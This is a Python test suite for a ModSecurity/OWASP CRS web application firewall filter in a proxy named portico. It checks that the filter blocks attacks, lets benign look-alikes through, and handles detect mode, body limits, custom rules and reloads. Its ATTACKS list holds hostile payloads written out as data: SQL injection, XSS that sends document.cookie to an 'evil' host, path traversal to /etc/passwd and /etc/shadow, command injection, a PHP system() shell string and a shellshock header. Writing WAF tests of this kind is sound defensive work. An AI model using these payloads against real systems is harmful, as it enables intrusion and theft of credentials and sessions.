"""
test_waf.py -- the `waf` filter (ModSecurity v3 + OWASP CRS 3.3, Debian packages)
through the real portico binary and the in-process echo upstream, which
records every request it receives: attack strings in the query, headers,
cookies, JSON, form and chunked bodies (HTTP/1.1 and HTTP/2) are refused with
a 403 JSON error naming the rule and never reach the upstream; benign
look-alikes pass (false positives are counted and printed); detect mode logs
only; body_limit refuses (413) or inspects a prefix; rule-file errors are
FILE:LINE:COL and refuse the config; a few thousand requests leave no leak
(run under ASan in the sanitizer build).
"""
import http.client
import json
import os
import subprocess
import time
import unittest
import urllib.parse

from portico_test import Portico, PorticoTestCase, free_port, h2_call

CUSTOM_RULES = b"""# a site rule of our own
SecRule ARGS:token "@streq letmein" "id:10001,phase:2,deny,status:403,log,msg:'token guessing'"
"""

BAD_RULES = b"""# the second rule has no action list
SecRule ARGS "@rx foo" "id:10002,phase:2,deny,log"
SecRule ARGS "@rx bar" id:10003 phase:2
"""


def config(port, echo_port, rules_file="custom.conf"):
    return f"""
listeners:
  - address: 127.0.0.1:{port}
access_log: {{ path: access.log }}
clusters:
  - name: web
    endpoints: [ "127.0.0.1:{echo_port}" ]
routes:
  - match: {{ host: detect.test }}
    proxy: {{ cluster: web }}
    filters: [ {{ waf: {{ mode: detect }} }} ]
  - match: {{ host: small.test }}
    proxy: {{ cluster: web }}
    filters: [ {{ waf: {{ body_limit: 1k }} }} ]
  - match: {{ host: partial.test }}
    proxy: {{ cluster: web }}
    filters: [ {{ waf: {{ body_limit: 1k, body_limit_action: inspect_partial }} }} ]
  - match: {{ host: custom.test }}
    proxy: {{ cluster: web }}
    filters: [ {{ waf: {{ crs: false, rules: [ {rules_file} ] }} }} ]
  - match: {{ prefix: / }}
    proxy: {{ cluster: web }}
    filters: [ {{ waf: {{ paranoia: 1 }} }} ]
"""


def q(s):
    return urllib.parse.quote(s, safe="")


# (what, method, path, headers, body): each must be refused.
ATTACKS = [
    ("sqli query tautology", "GET", "/search?q=" + q("1' OR '1'='1"), {}, None),
    ("sqli query union", "GET", "/items?id=" + q("1 UNION SELECT username, password FROM users--"),
     {}, None),
    ("sqli query stacked", "GET", "/items?id=" + q("1; DROP TABLE users--"), {}, None),
    ("sqli query sleep", "GET", "/items?id=" + q("1 AND SLEEP(5)"), {}, None),
    ("xss query script", "GET", "/search?q=" + q("<script>alert(1)</script>"), {}, None),
    ("xss query onerror", "GET", "/search?q=" + q("<img src=x onerror=alert(document.cookie)>"),
     {}, None),
    ("xss javascript uri", "GET", "/go?next=" + q("javascript:alert(1)"), {}, None),
    ("path traversal query", "GET", "/file?name=" + q("../../../../etc/passwd"), {}, None),
    ("rce query", "GET", "/ping?host=" + q("127.0.0.1; cat /etc/passwd"), {}, None),
    ("php injection", "GET", "/x?code=" + q("<?php system($_GET['c']); ?>"), {}, None),
    ("sqli cookie", "GET", "/account", {"Cookie": "session=" + q("' or 1=1--")}, None),
    ("scanner user-agent", "GET", "/", {"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"},
     None),
    ("shellshock header", "GET", "/", {"X-Trace": "() { :; }; /bin/cat /etc/passwd"}, None),
    ("traversal header", "GET", "/", {"X-File": "../../../etc/shadow"}, None),
    ("sqli json body", "POST", "/api/users",
     {"Content-Type": "application/json"},
     json.dumps({"name": "x", "filter": "1' UNION SELECT password FROM users--"})),
    ("xss json body", "POST", "/api/comments",
     {"Content-Type": "application/json"},
     json.dumps({"comment": "<script>document.location='http://evil/'+document.cookie</script>"})),
    ("sqli form body", "POST", "/login",
     {"Content-Type": "application/x-www-form-urlencoded"},
     "user=admin&password=" + q("' OR 1=1 -- ")),
    ("xss form body", "POST", "/profile",
     {"Content-Type": "application/x-www-form-urlencoded"},
     "bio=" + q("<svg/onload=alert(1)>")),
]

# Benign requests that look like attacks to a naive filter: each must pass.
BENIGN = [
    ("irish name query", "GET", "/people?name=" + q("O'Brien"), {}, None),
    ("select a plan", "GET", "/pricing?q=" + q("select a plan"), {}, None),
    ("union station", "GET", "/trains?to=" + q("Union Station"), {}, None),
    ("drop us a line", "GET", "/contact?subject=" + q("drop us a line"), {}, None),
    ("percent off", "GET", "/deals?q=" + q("it's 50% off"), {}, None),
    ("tom and jerry", "GET", "/search?q=" + q("Tom & Jerry"), {}, None),
    ("email", "GET", "/users?email=" + q("anne.o'neil@example.com"), {}, None),
    ("path with dots", "GET", "/files/report.v2.final.pdf", {}, None),
    ("json apples", "POST", "/api/notes", {"Content-Type": "application/json"},
     json.dumps({"text": "1 OR 2 apples, please"})),
    ("json irish name", "POST", "/api/users", {"Content-Type": "application/json"},
     json.dumps({"name": "Siobhan O'Brien", "city": "Cork"})),
    ("json product <b>", "POST", "/api/products", {"Content-Type": "application/json"},
     json.dumps({"title": "Desk lamp",
                 "description": "A <b>bright</b> lamp for your desk, <i>adjustable</i> arm."})),
    ("json update your profile", "POST", "/api/messages", {"Content-Type": "application/json"},
     json.dumps({"subject": "Please update your profile", "body": "Select a plan from the list"})),
    ("form comment", "POST", "/comments", {"Content-Type": "application/x-www-form-urlencoded"},
     "author=" + q("Mary O'Hara") + "&text=" + q("Where do I select a plan? Is it 10% off?")),
    ("json meeting notes", "POST", "/notes", {"Content-Type": "application/json"},
     json.dumps({"notes": "We will drop the old table layout and select new colours."})),
]


class WafTest(PorticoTestCase):
    def setUp(self):
        super().setUp()
        self.upstream = self.echo()
        self.port = free_port()
        # loading the CRS (five rule sets here) takes seconds under ASan on a busy machine
        self.p = Portico(config(self.port, self.upstream.port), workers=2,
                         extra_files={"custom.conf": CUSTOM_RULES})
        self._procs.append(self.p)
        self.p.wait_ready(self.port, 120)
        self.log = os.path.join(self.p.dir, "access.log")

    def send(self, method, path, headers=None, body=None, host="api.example.com", chunked=False):
        c = http.client.HTTPConnection("127.0.0.1", self.port, timeout=30)
        try:
            h = {"Host": host, "User-Agent": "test-client/1.0", "Accept": "*/*"}
            h.update(headers or {})
            data = body.encode() if isinstance(body, str) else body
            if chunked:
                c.request(method, path, body=iter([data[:5], data[5:]]), headers=h,
                          encode_chunked=True)
            else:
                c.request(method, path, body=data, headers=h)
            r = c.getresponse()
            return r.status, r.getheader("content-type"), r.read()
        finally:
            c.close()

    def log_lines(self, pred, timeout=10.0):
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            if os.path.exists(self.log):
                with open(self.log, "rb") as f:
                    lines = [json.loads(x) for x in f.read().split(b"\n")[:-1]]
                hit = [x for x in lines if pred(x)]
                if hit:
                    return hit
            time.sleep(0.05)
        return []

    def assertBlocked(self, what, status, ctype, body, code=403):
        self.assertEqual(status, code, "%s: %r" % (what, body))
        self.assertEqual(ctype, "application/json", what)
        err = json.loads(body)["error"]
        self.assertIn("blocked by rule" if code == 403 else "body", err.get("detail", ""), what)
        return err

    def test_attacks_refused_and_never_reach_upstream(self):
        for what, method, path, headers, body in ATTACKS:
            with self.subTest(what):
                before = len(self.upstream.requests)
                st, ct, out = self.send(method, path, headers, body)
                err = self.assertBlocked(what, st, ct, out)
                self.assertEqual(err["code"], "FORBIDDEN")
                self.assertRegex(err["detail"], r"^blocked by rule 9[0-9]{5}\b")
                self.assertEqual(len(self.upstream.requests), before, what + " reached upstream")
        lines = self.log_lines(lambda x: x.get("status") == 403 and "waf" in x)
        self.assertGreaterEqual(len(lines), 1)
        self.assertRegex(lines[0]["waf"], r"^blocked 9[0-9]{5}")

    def test_rule_id_named(self):
        st, ct, out = self.send("GET", "/search?q=" + q("1' OR '1'='1"))
        err = self.assertBlocked("sqli", st, ct, out)
        self.assertTrue(err["detail"].startswith("blocked by rule 942100 "), err)
        line = self.log_lines(lambda x: x.get("query", "").startswith("q=1"))
        self.assertTrue(line and line[0]["waf"].startswith("blocked 942100"), line)

    def test_body_attacks_chunked_and_http2(self):
        for what, method, path, headers, body in ATTACKS:
            if body is None:
                continue
            with self.subTest(what):
                before = len(self.upstream.requests)
                st, ct, out = self.send(method, path, headers, body, chunked=True)
                self.assertBlocked(what + " (chunked)", st, ct, out)
                head, data, _, reset = h2_call(self.port, path, list(headers.items()),
                                               body.encode(), authority="api.example.com")
                self.assertEqual(head.get(":status"), "403", (what, data, reset))
                self.assertIn(b"blocked by rule", data)
                self.assertEqual(len(self.upstream.requests), before, what + " reached upstream")

    def test_slow_body_never_opens_upstream(self):
        """The upstream sees nothing, not even a connection or a head, while
        the body is still arriving: the verdict comes first."""
        import socket
        conns, before = self.upstream.connections, len(self.upstream.requests)
        body = json.dumps({"name": "x", "filter": "1' UNION SELECT password FROM users--"}).encode()
        with socket.create_connection(("127.0.0.1", self.port), timeout=10) as s:
            s.sendall(b"POST /api HTTP/1.1\r\nHost: api.example.com\r\n"
                      b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n")
            s.sendall(b"%x\r\n%s\r\n" % (10, body[:10]))
            time.sleep(0.5)  # a proxy that streams has connected and sent the head by now
            self.assertEqual(self.upstream.connections, conns)
            rest = body[10:]
            s.sendall(b"%x\r\n%s\r\n0\r\n\r\n" % (len(rest), rest))
            out = b""
            while b"blocked by rule" not in out:
                chunk = s.recv(65536)
                if not chunk:
                    break
                out += chunk
        self.assertTrue(out.startswith(b"HTTP/1.1 403 "), out)
        self.assertEqual(self.upstream.connections, conns)
        self.assertEqual(len(self.upstream.requests), before)

    def test_benign_pass_false_positives(self):
        fps = []
        for what, method, path, headers, body in BENIGN:
            before = len(self.upstream.requests)
            st, _, out = self.send(method, path, headers, body)
            if st != 200:
                fps.append((what, st, out[:200]))
                continue
            got = self.upstream.requests[before]
            self.assertEqual(got["body"], (body or "").encode(), what)
        print("\nwaf false positives: %d of %d benign look-alikes %s" % (len(fps), len(BENIGN), fps))
        self.assertEqual(fps, [])

    def test_benign_http2_and_chunked(self):
        for what, method, path, headers, body in BENIGN:
            if body is None:
                continue
            with self.subTest(what):
                st, _, _ = self.send(method, path, headers, body, chunked=True)
                self.assertEqual(st, 200, what)
                head, data, _, _ = h2_call(self.port, path, list(headers.items()), body.encode(),
                                           authority="api.example.com")
                self.assertEqual(head.get(":status"), "200", (what, data))
                self.assertEqual(json.loads(data)["body"], body, what)

    def test_detect_mode_logs_only(self):
        before = len(self.upstream.requests)
        st, _, _ = self.send("GET", "/search?q=" + q("<script>alert(1)</script>"), host="detect.test")
        self.assertEqual(st, 200)
        self.assertEqual(len(self.upstream.requests), before + 1)
        st, _, _ = self.send("POST", "/api", {"Content-Type": "application/json"},
                             json.dumps({"q": "1' UNION SELECT password FROM users--"}),
                             host="detect.test")
        self.assertEqual(st, 200)
        xss = self.log_lines(lambda x: x.get("query", "").startswith("q=%3Cscript"))
        self.assertTrue(xss and xss[0]["waf"].startswith("detected 941"), xss)
        sqli = self.log_lines(lambda x: x.get("path") == "/api" and x.get("method") == "POST")
        self.assertTrue(sqli and sqli[0]["waf"].startswith("detected 942"), sqli)
        self.assertEqual(sqli[0]["status"], 200)

    def test_body_limit_reject(self):
        before = len(self.upstream.requests)
        big = json.dumps({"text": "a" * 2000})
        for chunked in (False, True):
            st, ct, out = self.send("POST", "/api", {"Content-Type": "application/json"}, big,
                                    host="small.test", chunked=chunked)
            self.assertEqual(st, 413, out)
            self.assertIn(b"larger than the waf inspects", out)
        self.assertEqual(len(self.upstream.requests), before)
        st, _, _ = self.send("POST", "/api", {"Content-Type": "application/json"},
                             json.dumps({"text": "a" * 500}), host="small.test")
        self.assertEqual(st, 200)

    def test_body_limit_inspect_partial(self):
        attack = "q=" + q("' OR 1=1 -- ")
        hdr = {"Content-Type": "application/x-www-form-urlencoded"}
        # the attack inside the first 1k: refused, even though the body is larger
        st, ct, out = self.send("POST", "/f", hdr, attack + "&pad=" + "b" * 3000, host="partial.test")
        self.assertBlocked("partial head", st, ct, out)
        # past the first 1k: not inspected, the whole body reaches the upstream
        before = len(self.upstream.requests)
        body = "pad=" + "b" * 3000 + "&" + attack
        st, _, _ = self.send("POST", "/f", hdr, body, host="partial.test")
        self.assertEqual(st, 200)
        self.assertEqual(self.upstream.requests[before]["body"], body.encode())

    def test_custom_rules_file(self):
        st, ct, out = self.send("GET", "/x?token=letmein", host="custom.test")
        err = self.assertBlocked("custom", st, ct, out)
        self.assertEqual(err["detail"], "blocked by rule 10001 (token guessing)")
        # crs: false -- only the site's rules run
        st, _, _ = self.send("GET", "/x?q=" + q("1' OR '1'='1"), host="custom.test")
        self.assertEqual(st, 200)

    def test_reload_new_rules(self):
        """SIGHUP builds a new rule set; the old one is released with its snapshot."""
        st, _, _ = self.send("GET", "/x?token=opensesame", host="custom.test")
        self.assertEqual(st, 200)
        with open(os.path.join(self.p.dir, "custom.conf"), "ab") as f:
            f.write(b'SecRule ARGS:token "@streq opensesame" '
                    b'"id:10004,phase:2,deny,status:403,log,msg:\'second word\'"\n')
        self.p.reload()
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            st, ct, out = self.send("GET", "/x?token=opensesame", host="custom.test")
            if st == 403:
                break
            time.sleep(0.1)
        err = self.assertBlocked("reloaded rule", st, ct, out)
        self.assertEqual(err["detail"], "blocked by rule 10004 (second word)")
        st, _, _ = self.send("GET", "/search?q=" + q("1' OR '1'='1"))
        self.assertEqual(st, 403)

    def test_many_requests(self):
        """A few thousand transactions (attacks, benign, bodies) from 4 client
        threads on kept-alive connections, over the 2 workers (one shared rule
        set, a transaction per request): every answer is the expected one, and
        under ASan the clean exit at teardown proves no leak."""
        import threading
        n = int(os.environ.get("WAF_MANY", "2000"))
        cases = [(c, 403) for c in ATTACKS] + [(c, 200) for c in BENIGN]
        wrong, done = [], [0]
        lock = threading.Lock()

        def client(k):
            c = http.client.HTTPConnection("127.0.0.1", self.port, timeout=60)
            try:
                for i in range(k, n, 4):
                    (what, method, path, headers, body), want = cases[i % len(cases)]
                    h = {"Host": "api.example.com", "User-Agent": "test-client/1.0", "Accept": "*/*"}
                    h.update(headers)
                    c.request(method, path, body=body.encode() if body else None, headers=h)
                    r = c.getresponse()
                    r.read()
                    with lock:
                        done[0] += 1
                        if r.status != want:
                            wrong.append((what, r.status))
                    if r.getheader("connection", "").lower() == "close":
                        c.close()
                        c = http.client.HTTPConnection("127.0.0.1", self.port, timeout=60)
            finally:
                c.close()

        threads = [threading.Thread(target=client, args=(k,)) for k in range(4)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(600)
        self.assertEqual(done[0], n)
        self.assertEqual(wrong, [])


class WafConfigTest(unittest.TestCase):
    def run_config(self, rules, files):
        p = Portico(config(free_port(), free_port(), rules_file=rules), extra_files=files)
        try:
            p.proc.wait(60)
        except subprocess.TimeoutExpired:
            p.stop()
            self.fail("portico started with a bad waf config")
        out = p.output()
        code = p.proc.returncode
        p.stop()
        self.assertNotEqual(code, 0, out)
        return out

    def test_rule_file_error_names_file_line_col(self):
        out = self.run_config("bad.conf", {"bad.conf": BAD_RULES})
        # the config position, then the rule file's FILE:LINE:COL
        self.assertRegex(out, r"portico\.yaml:\d+:\d+: waf: rules: \S*bad\.conf:3:\d+: ")
        self.assertNotIn("1 route", out)

    def test_missing_rule_file(self):
        out = self.run_config("nope.conf", {})
        self.assertRegex(out, r"portico\.yaml:\d+:\d+: waf: rules: cannot read \S*nope\.conf")


if __name__ == "__main__":
    unittest.main()
